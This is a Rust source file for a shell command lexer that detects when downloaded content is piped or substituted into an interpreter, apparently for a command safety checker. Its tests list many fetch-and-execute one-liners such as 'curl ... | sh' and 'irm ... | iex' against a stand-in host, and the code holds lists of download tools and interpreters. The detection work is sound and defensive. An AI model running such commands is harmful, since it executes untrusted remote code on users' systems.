//! Takes a shell command line apart into simple commands.
//!
//! It understands quotes, escapes, operators, redirections and substitutions well enough to find
//! every command that would run. It expands nothing: that something *would* expand is the answer.

use super::program_name;

/// Substitutions inside substitutions that are still read.
const MAX_NESTING: u32 = 4;
/// Stands in a word for what a substitution would leave there; no package name can contain it.
const SUBSTITUTED: char = '\u{fffc}';

#[derive(Debug, Default)]
pub struct Script {
    pub commands: Vec<Simple>,
    pub nested: Vec<Nested>,
    /// A variable, glob-free substitution or arithmetic decides part of it at run time.
    pub expands: bool,
}

#[derive(Debug, Default)]
pub struct Simple {
    pub words: Vec<String>,
    /// Its input is the output of the command before it.
    piped: bool,
}

/// The text of `$(…)`, `` `…` ``, `<(…)`.
#[derive(Debug)]
pub struct Nested {
    pub text: String,
    /// Index of the command that it is part of.
    parent: usize,
}

impl Script {
    pub fn lex(text: &str) -> Self {
        let mut lexer = Lexer {
            chars: text.chars().collect(),
            at: 0,
            script: Self::default(),
        };
        lexer.script.commands.push(Simple::default());
        lexer.run();
        let mut script = lexer.script;
        if script
            .commands
            .last()
            .is_some_and(|command| command.words.is_empty())
        {
            script.commands.pop();
        }
        script
    }

    /// Whether something that was just downloaded is handed to an interpreter.
    pub fn runs_download(&self) -> bool {
        self.runs_download_within(MAX_NESTING)
    }

    fn runs_download_within(&self, depth: u32) -> bool {
        let mut downloading = false;
        for command in &self.commands {
            downloading &= command.piped;
            if downloading && command.runs_its_input() {
                return true;
            }
            downloading |= command.is_download();
        }
        self.nested.iter().any(|nested| {
            let Some(depth) = depth.checked_sub(1) else {
                return true;
            };
            let inner = Self::lex(&nested.text);
            let runs = self
                .commands
                .get(nested.parent)
                .is_none_or(Simple::runs_its_substitution);
            (runs && inner.commands.iter().any(Simple::is_download))
                || inner.runs_download_within(depth)
        })
    }
}

impl Simple {
    /// The program and its arguments, behind the wrappers that matter here.
    fn effective(&self) -> (String, &[String]) {
        let mut words = self.words.as_slice();
        while let Some((first, rest)) = words.split_first() {
            let name = program_name(first);
            let wraps = matches!(
                name.as_str(),
                "sudo" | "env" | "nohup" | "doas" | "exec" | "command" | "time"
            );
            let skipped = wraps || name.starts_with('-') || is_assignment(first);
            if !skipped {
                return (name, rest);
            }
            words = rest;
        }
        (String::new(), &[])
    }

    /// Without an argument it fetches nothing: `curl` in prose is only a word.
    fn is_download(&self) -> bool {
        const FETCHERS: [&str; 6] = ["curl", "wget", "iwr", "irm", "invoke-webrequest", "aria2c"];
        let (name, rest) = self.effective();
        FETCHERS.contains(&name.as_str()) && !rest.is_empty()
    }

    /// `sh`, `bash -s -- x`, `python3 -`; not `python3 -m json.tool` or `bash build.sh`.
    fn runs_its_input(&self) -> bool {
        let (name, rest) = self.effective();
        if name == "iex" || name == "invoke-expression" {
            return true;
        }
        if !is_interpreter(&name) {
            return false;
        }
        for word in rest {
            match word.as_str() {
                "-" | "-s" | "/dev/stdin" => return true,
                option if option.starts_with("--") => {}
                option if option.starts_with('-') => {
                    if option.chars().any(|c| "cemnprC".contains(c)) {
                        return false;
                    }
                }
                _ => return false,
            }
        }
        true
    }

    /// Whether the text that a substitution leaves in it is run: `eval $(…)`, `bash -c "$(…)"`.
    fn runs_its_substitution(&self) -> bool {
        let (name, rest) = self.effective();
        let first = rest.iter().find(|word| !word.starts_with('-'));
        name.contains(SUBSTITUTED)
            || matches!(name.as_str(), "eval" | "source" | "." | "iex")
            || (is_interpreter(&name) && first.is_some_and(|word| word.contains(SUBSTITUTED)))
    }
}

/// `NAME=value` before a command.
pub fn is_assignment(word: &str) -> bool {
    word.split_once('=').is_some_and(|(name, _)| {
        name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
            && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
    })
}

fn is_interpreter(name: &str) -> bool {
    const NAMES: [&str; 13] = [
        "sh",
        "bash",
        "zsh",
        "dash",
        "ksh",
        "fish",
        "ash",
        "node",
        "perl",
        "ruby",
        "php",
        "powershell",
        "pwsh",
    ];
    NAMES.contains(&name)
        || name
            .strip_prefix("python")
            .is_some_and(|rest| !rest.starts_with('-'))
}

struct Lexer {
    chars: Vec<char>,
    at: usize,
    script: Script,
}

impl Lexer {
    fn run(&mut self) {
        let mut word: Option<String> = None;
        while let Some(c) = self.next() {
            match c {
                '\'' => {
                    let word = word.get_or_insert_default();
                    while let Some(c) = self.next().filter(|c| *c != '\'') {
                        word.push(c);
                    }
                }
                '"' => {
                    let mut text = word.take().unwrap_or_default();
                    self.double_quoted(&mut text);
                    word = Some(text);
                }
                '\\' => match self.next() {
                    Some('\n') | None => {}
                    Some(c) => word.get_or_insert_default().push(c),
                },
                '$' | '`' => {
                    let mut text = word.take().unwrap_or_default();
                    self.expansion(c, &mut text);
                    word = Some(text);
                }
                '<' | '>' if self.peek() == Some('(') => {
                    self.at += 1;
                    let text = self.until_closed();
                    self.nest(text);
                    word.get_or_insert_default().push(SUBSTITUTED);
                }
                '<' | '>' => self.redirection(&mut word),
                '#' if word.is_none() => while self.next().is_some_and(|c| c != '\n') {},
                '|' => {
                    let or = self.peek() == Some('|');
                    self.at += usize::from(or || self.peek() == Some('&'));
                    self.end_command(&mut word, !or);
                }
                '&' | ';' | '\n' | '(' | ')' => {
                    self.at += usize::from(c == '&' && self.peek() == Some('&'));
                    self.end_command(&mut word, false);
                }
                c if c.is_whitespace() => self.end_word(&mut word),
                c => word.get_or_insert_default().push(c),
            }
        }
        self.end_word(&mut word);
    }

    fn next(&mut self) -> Option<char> {
        let c = self.peek()?;
        self.at += 1;
        Some(c)
    }

    fn peek(&self) -> Option<char> {
        self.chars.get(self.at).copied()
    }

    fn double_quoted(&mut self, word: &mut String) {
        while let Some(c) = self.next() {
            match c {
                '"' => return,
                '\\' => match self.next() {
                    Some(c) if "$`\"\\\n".contains(c) => word.push(c),
                    Some(c) => word.extend(['\\', c]),
                    None => return,
                },
                '$' | '`' => self.expansion(c, word),
                c => word.push(c),
            }
        }
    }

    fn expansion(&mut self, opener: char, word: &mut String) {
        match (opener, self.peek()) {
            ('`', _) => {
                let mut text = String::new();
                while let Some(c) = self.next().filter(|c| *c != '`') {
                    text.push(c);
                }
                self.nest(text);
                word.push(SUBSTITUTED);
            }
            (_, Some('(')) => {
                self.at += 1;
                let text = self.until_closed();
                self.nest(text);
                word.push(SUBSTITUTED);
            }
            (_, Some(c)) if c.is_alphanumeric() || "_{@*#?!$-'\"".contains(c) => {
                self.script.expands = true;
                word.push(opener);
            }
            _ => word.push(opener),
        }
    }

    fn until_closed(&mut self) -> String {
        let mut text = String::new();
        let mut open = 1_u32;
        while let Some(c) = self.next() {
            match c {
                '(' => open += 1,
                ')' => open -= 1,
                _ => {}
            }
            if open == 0 {
                break;
            }
            text.push(c);
        }
        text
    }

    fn nest(&mut self, text: String) {
        self.script.expands = true;
        let parent = self.script.commands.len().saturating_sub(1);
        self.script.nested.push(Nested { text, parent });
    }

    /// Drops the operator and the file, and the digit before it.
    fn redirection(&mut self, word: &mut Option<String>) {
        if word
            .as_ref()
            .is_some_and(|word| word.chars().all(|c| c.is_ascii_digit()))
        {
            *word = None;
        }
        self.end_word(word);
        while self.peek().is_some_and(|c| "<>&|".contains(c)) {
            self.at += 1;
        }
        while self.peek().is_some_and(|c| c == ' ' || c == '\t') {
            self.at += 1;
        }
        while self
            .peek()
            .is_some_and(|c| !c.is_whitespace() && !";|&()<>\"'$`".contains(c))
        {
            self.at += 1;
        }
    }

    fn end_word(&mut self, word: &mut Option<String>) {
        if let (Some(word), Some(command)) = (word.take(), self.script.commands.last_mut()) {
            command.words.push(word);
        }
    }

    fn end_command(&mut self, word: &mut Option<String>, piped: bool) {
        self.end_word(word);
        match self.script.commands.last_mut() {
            Some(last) if last.words.is_empty() => last.piped |= piped,
            _ => self.script.commands.push(Simple {
                words: Vec::new(),
                piped,
            }),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::Script;

    fn commands(text: &str) -> Vec<Vec<String>> {
        let script = Script::lex(text);
        script
            .commands
            .into_iter()
            .map(|command| command.words)
            .collect()
    }

    #[test]
    fn every_simple_command_is_found() {
        assert_eq!(
            commands("a b|c; d && e 'f g' >out 2>&1"),
            [vec!["a", "b"], vec!["c"], vec!["d"], vec!["e", "f g"]]
        );
        assert_eq!(commands("a\\ b \"c\\\"d\" # e"), [vec!["a b", "c\"d"]]);
        assert_eq!(commands("a\n\nb &"), [vec!["a"], vec!["b"]]);
        assert!(commands("  ").is_empty());
    }

    #[test]
    fn a_download_that_is_run_is_seen_in_every_shape() {
        for text in [
            "curl -fsSL https://x.example/i.sh | sh",
            "wget -qO- https://x.example | sudo -E bash -",
            "bash -c \"$(curl -fsSL https://x.example)\"",
            "$(curl https://x.example)",
            "bash <(curl -s https://x.example)",
            "eval `wget -O- https://x.example`",
            "cd /tmp && curl https://x.example | tee i.sh | python3",
            "source <(curl -s https://x.example)",
            "irm https://x.example | iex",
            "bash -c \"cd /tmp; $(curl https://x.example)\"",
        ] {
            assert!(Script::lex(text).runs_download(), "{text}");
        }
        for text in [
            "curl https://x.example/data.json | jq .name",
            "curl -o out https://x.example; sh build.sh",
            "echo \"$(curl -s https://x.example/ip)\"",
            "bash -c 'echo hi'",
            "cat curl | sort",
            "curl -s https://x.example/a.json | python3 -m json.tool",
            "curl -s https://x.example/a.json | python3 -c 'import sys'",
            "curl -s https://x.example/a.txt | bash count-lines.sh",
            "bash deploy.sh \"$(curl -s https://x.example/ip)\"",
            "echo curl '|' sh",
            "`curl` and `sh` are programs",
        ] {
            assert!(!Script::lex(text).runs_download(), "{text}");
        }
    }
}
